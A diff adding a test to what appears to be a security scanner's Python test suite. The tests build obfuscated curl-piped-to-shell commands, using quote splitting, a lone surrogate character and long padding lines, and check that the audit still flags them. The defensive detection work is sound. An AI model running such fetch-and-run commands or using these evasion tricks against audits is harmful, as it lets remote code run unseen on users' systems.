@@ -135,3 +135,10 @@ def test_hostile_text_is_read_in_bounded_time(text: str) -> None:
 def test_a_long_line_does_not_hide_what_comes_after_it() -> None:
     text = "echo " + "a''b " * 10_000 + f"; c''url {ADDRESS} | ba''sh"
     assert PLAIN in reads(text)
+
+
+def test_half_a_character_in_a_command_does_not_stop_an_audit() -> None:
+    hidden = f"$(printf '\\ud800{CU[:2]}'){CU[2:]} {ADDRESS} | ba''sh\n"
+    document = Document(hidden, "run.sh", SourceType.SCRIPT, FileKind.SCRIPT)
+
+    assert [finding.id for finding in inspect(document)] == ["tp-curl-pipe-" + SH]
